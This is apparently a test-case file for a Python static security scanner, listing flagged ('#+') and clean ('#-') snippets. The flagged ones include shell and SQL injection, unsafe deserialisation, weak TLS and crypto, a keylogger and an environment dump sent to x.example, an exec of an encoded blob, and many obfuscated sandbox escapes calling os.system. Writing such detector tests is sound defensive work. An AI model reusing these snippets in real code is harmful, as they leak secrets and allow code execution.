#+ commands module
import commands
commands.getoutput("ls " + x)
#+ no imports eval
result = eval(user_input)
#+ popen2
import popen2
popen2.popen3("ls " + x)
#+ subprocess shell constant
import subprocess
subprocess.call("ls -l /tmp", shell=True)
#+ os.system constant
import os
os.system("clear")
#+ input py2 exec
exec(raw_input())
#+ wildcard
import os
os.system("tar cf x *")
#+ Popen wildcard
import subprocess
subprocess.Popen("chown root:root *", shell=True)
#+ flask secret debug
from flask import Flask
app = Flask(__name__)
if __name__ == "__main__":
    app.run(host="127.0.0.1", port=5000, debug=True)
#+ hashlib sha
import hashlib
h = hashlib.new('md5')
#+ yaml Loader
import yaml
from yaml import Loader
yaml.load("x: 1" + y, Loader=Loader)
#+ ssl no version
import ssl
ssl.wrap_socket(sock)
#+ django mark safe
from django.utils.safestring import mark_safe
mark_safe(f"<b>{name}</b>")
#+ mako
from mako.template import Template
Template("hello" + name)
#+ mako const
from mako.template import Template
mytemplate = Template("hello ${name}")
#+ tmp file
open("/tmp/app.log", "w").write("x")
#+ requests timeout
import requests
requests.get("https://example.com")
#+ urllib file scheme
import urllib.request
def f(url): return urllib.request.urlopen(url)
#+ snmp
from pysnmp.hlapi import CommunityData
CommunityData("public", mpModel=0)
#+ logging listen
import logging.config
logging.config.listen(9999)
#+ xmlrpc
import xmlrpc.client
from xmlrpc.server import SimpleXMLRPCServer
s = SimpleXMLRPCServer(("localhost", 1))
s.register_instance(object(), allow_dotted_names=True)
#+ cgi
import wsgiref.handlers
wsgiref.handlers.CGIHandler().run(app)
#+ sqlalchemy execute concat
from sqlalchemy import create_engine
e = create_engine("sqlite://")
e.execute("SELECT * FROM users WHERE name = '" + name + "'")
#+ sql in a class
class Repo:
    def find(self, name):
        sql = "SELECT * FROM users WHERE name = '%s'" % name
        self.cursor.execute(sql)
#+ sql with format_map
def f(cur, d):
    cur.execute("SELECT * FROM t WHERE a = '{a}'".format_map(d))
#+ order by user
from flask import request
def f(cur):
    cur.execute("SELECT * FROM t ORDER BY " + request.args["o"])
#+ aes ecb cryptography
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.backends import default_backend
Cipher(algorithms.Blowfish(key), modes.CBC(iv), backend=default_backend())
#+ hmac md5
import hmac, hashlib
hmac.new(k, m, hashlib.md5)
#+ random secret in dict
import random
user = {"token": random.randint(0, 10**9)}
#+ random keyword
import random
create_user(password=random.choice(words))
#+ session token in return
import random
def session_token():
    return str(random.random())
#+ chmod stat
import os, stat
os.chmod(p, stat.S_IWOTH)
#+ pickle from request
import pickle
from flask import request
pickle.loads(request.data)
#+ jsonpickle alias
from jsonpickle import decode
decode(s)
#+ dill alias
import dill as pickle
pickle.load(f)
#+ shelve
import shelve
db = shelve.open("mydata")
#+ torch jit
import torch
m = torch.load("model.pt", map_location="cpu")
#+ paramiko warning
import paramiko
ssh = paramiko.SSHClient()
ssh.set_missing_host_key_policy(paramiko.client.WarningPolicy)
#+ ftp login
import ftplib
ftp = ftplib.FTP()
ftp.connect("h")
#+ telnet from
from telnetlib import Telnet
with Telnet("h", 23) as t: t.interact()
#+ http.client insecure
import http.client, ssl
http.client.HTTPSConnection("h", context=ssl._create_unverified_context())
#+ urllib3 disable
import urllib3
urllib3.disable_warnings()
http = urllib3.PoolManager(cert_reqs='CERT_NONE', assert_hostname=False)
#+ tls min
import ssl
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS)
ctx.minimum_version = ssl.TLSVersion.SSLv3
#+ weak ec
from cryptography.hazmat.primitives.asymmetric import ec
ec.generate_private_key(ec.SECP192R1())
#+ tarfile members func name
import tarfile
tar = tarfile.open("x.tar.gz")
tar.extractall()
tar.close()
#+ zipfile extract by hand
import zipfile
with zipfile.ZipFile(p) as z:
    for info in z.infolist():
        open("out/" + info.filename, "wb").write(z.read(info))
#+ django raw request
from django.db import connection
def v(request):
    with connection.cursor() as c:
        c.execute("SELECT * FROM t WHERE id = %s" % request.GET["id"])
#+ jinja from string
import jinja2
def v(request):
    return jinja2.Environment(autoescape=True).from_string(request.GET["t"]).render()
#+ format string user
def f(template, user):
    return eval("f'" + template + "'")
#+ subprocess user string no shell
import subprocess
from flask import request
subprocess.run(request.args["cmd"].split())
#+ os.environ set path? command
import os
from flask import request
os.system("nslookup %s" % request.args.get("h"))
#+ asyncio exec shell
import asyncio
async def f(x): await asyncio.create_subprocess_exec("sh", "-c", x)
#+ ldap3
def f(conn, u): conn.search("dc=x", f"(&(objectClass=person)(uid={u}))")
#+ lxml xpath
from lxml import etree
def f(root, u): return root.xpath("//u[@id='%s']" % u)
#+ open redirect django
from django.shortcuts import redirect
def v(request): return redirect(request.GET["next"])
#+ xss fastapi
from fastapi import FastAPI
from fastapi.responses import HTMLResponse
app = FastAPI()
@app.get("/x")
def x(q: str): return HTMLResponse(f"<p>{q}</p>")
#+ ssrf fastapi
import httpx
from fastapi import FastAPI
app = FastAPI()
@app.get("/x")
async def x(url: str):
    async with httpx.AsyncClient() as c:
        return (await c.get(url)).text
#+ cmd fastapi
import os
from fastapi import FastAPI
app = FastAPI()
@app.get("/p")
def p(h: str): return os.popen("ping " + h).read()
#+ bidi
access = "user‮ ⁦# admin⁩ ⁦"
#+ hardcoded tmp dir
import tempfile
tempfile.tempdir = "/tmp/x"
d = "/var/tmp/y"
open(d + "/a", "w")
#+ keylog
from pynput.keyboard import Listener
import requests
def on(key): requests.post("http://x.example", data=str(key), timeout=1)
Listener(on_press=on).start()
#+ crypto clipper env
import os, base64, requests
requests.get("http://x.example/?d=" + base64.b64encode(str(dict(os.environ)).encode()).decode(), timeout=1)
#+ hidden import hook
import sys
class F:
    def find_spec(self, name, path, target=None): ...
exec(__import__("zlib").decompress(__import__("base64").b64decode(b"eJw=")))
#+ lambda chain
(lambda x: (lambda y: y(x))(eval))("1+1")
#+ try import os
try:
    o = __import__("os")
except Exception:
    o = None
o.system("id")
#+ os via inspect
import inspect
inspect.getmodule(inspect).__builtins__["eval"]("1")
#+ getattr default
import os
getattr(os, "nope", os.system)("id")
#+ builtins via dict get
__builtins__.__dict__.get("eval")("1")
#+ from builtins import
from builtins import eval as e
e(input())
#+ code object exec
c = compile(input(), "", "eval")
print(eval(c))
#+ functools.wraps
import functools, os
def deco(f):
    @functools.wraps(f)
    def inner(*a):
        return os.system(*a)
    return inner
@deco
def harmless(x): pass
harmless("id")
#+ class call chain
class A:
    def __init__(self, mod): self.m = __import__(mod)
    def __getitem__(self, k): return getattr(self.m, k)
A("os")["system"]("id")
#+ str format attr
"{0.__class__.__mro__[1].__subclasses__}".format("")
#+ async
import asyncio, os
async def go(f, x): return f(x)
asyncio.run(go(os.system, "id"))
#+ multiple assign
import os
a = b = c = os.system
c("id")
#+ chained comparision getattr dict
import os
m = {"s": "system"}
getattr(os, m.get("s"))("id")
#+ global dict update
import os
globals().update({"run": os.system})
run("id")
#+ exec defines then call
exec("import os\nf = os.system")
f("id")
#+ ctypes libc
from ctypes import cdll
cdll.LoadLibrary("libc.so.6").system(b"id")
#+ pty
import pty
pty.spawn("/bin/bash")
#+ posix
import posix
posix.system("id")
#+ nested subclass loop
for c in ().__class__.__bases__[0].__subclasses__():
    if c.__name__ == "Popen":
        c("id", shell=True)
#+ type(x).mro
type("").mro()[-1].__subclasses__()
#+ generator frame
def g(): yield
g().gi_frame.f_back.f_globals["__builtins__"]
#+ warnings catch
[x for x in ().__class__.__base__.__subclasses__() if x.__name__ == "catch_warnings"][0]()._module.__builtins__["__import__"]("os").system("id")
#+ subprocess via attr string
import subprocess
getattr(subprocess, "check_" + "output")(["id"])
#+ import by comprehension
[__import__(m) for m in ["os"]][0].system("id")
#+ int base 36
import os
import numpy
getattr(os, "".join([chr(int(x, 16)) for x in "73 79 73 74 65 6d".split()]))("id")
#+ bytes.decode unbound
import os
getattr(os, bytes.decode(b"system"))("id")
#+ bytearray
import os
b = bytearray(b"systel")
b[5] = 109
getattr(os, b.decode())("id")
#+ join of slices
import os
s = "metsys"
getattr(os, s[3:][::-1] + s[:3][::-1])("id")
#+ sorted order spell
import os
p = [(2, "tem"), (1, "sys")]
getattr(os, "".join(v for _, v in sorted(p)))("id")
#- wraps ok
import functools
def deco(f):
    @functools.wraps(f)
    def inner(*a): return f(*a)
    return inner
@deco
def x(a): return a
x(1)
#- http get timeout
import requests
requests.get("https://example.com", timeout=3)
#- logger
import logging
logging.getLogger("x").info("eval %s", 1)
#- tests
import unittest
class T(unittest.TestCase):
    def test_x(self):
        self.assertEqual(1, 1)
#- try except pass
try:
    x = 1
except ValueError:
    pass
#- sum game
import random
score = random.randint(1, 100)
names = random.sample(["a", "b"], 1)
#- key random sort
import random
items = sorted([1, 2], key=lambda _: random.random())
#- pathlib
from pathlib import Path
p = Path("a") / "b"
p.read_text()
#- sqlite
import sqlite3
con = sqlite3.connect(":memory:")
con.execute("create table t (a int)")
con.execute("insert into t values (?)", (1,))
for row in con.execute("select a from t"): print(row)
#- dict get then call
ops = {"+": lambda a, b: a + b}
ops.get("+", lambda a, b: 0)(1, 2)
#- subprocess env
import subprocess, os
subprocess.run(["env"], env=dict(os.environ), check=True)
#- flask app
from flask import Flask, jsonify, request
app = Flask(__name__)
@app.route("/items/<int:item_id>", methods=["GET"])
def item(item_id):
    return jsonify(id=item_id, q=request.args.get("q"))
#- fastapi db
from fastapi import FastAPI
app = FastAPI()
@app.get("/u/{uid}")
def u(uid: int, db):
    return db.execute("SELECT * FROM u WHERE id = ?", (uid,)).fetchone()
#- argparse run
import argparse, subprocess
p = argparse.ArgumentParser()
p.add_argument("path")
a = p.parse_args()
subprocess.run(["wc", "-l", a.path], check=True)
#- jwt encode
import jwt
jwt.encode({"a": 1}, key, algorithm="HS256")
#- ssl server
import ssl
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain("c.pem")
#- numpy random
import numpy as np
x = np.random.rand(3)
#- key function name
import random
def choose_key(keys): return random.choice(keys)
#- tempdir
import tempfile
with tempfile.TemporaryDirectory() as d: print(d)
#- shutil
import shutil
shutil.copy("a", "b"); shutil.rmtree("build", ignore_errors=True)
#- hash dict key
import hashlib
def cache_key(s): return hashlib.sha256(s.encode()).hexdigest()
#+ shell with a value in double quotes
import os
def show(name: str) -> None:
    os.system('ls "%s"' % name)
#+ command with a value in double quotes beside another
import subprocess
def fetch(url: str, target: str) -> None:
    subprocess.check_call('curl --output "%s" %s' % (target, url), shell=True)
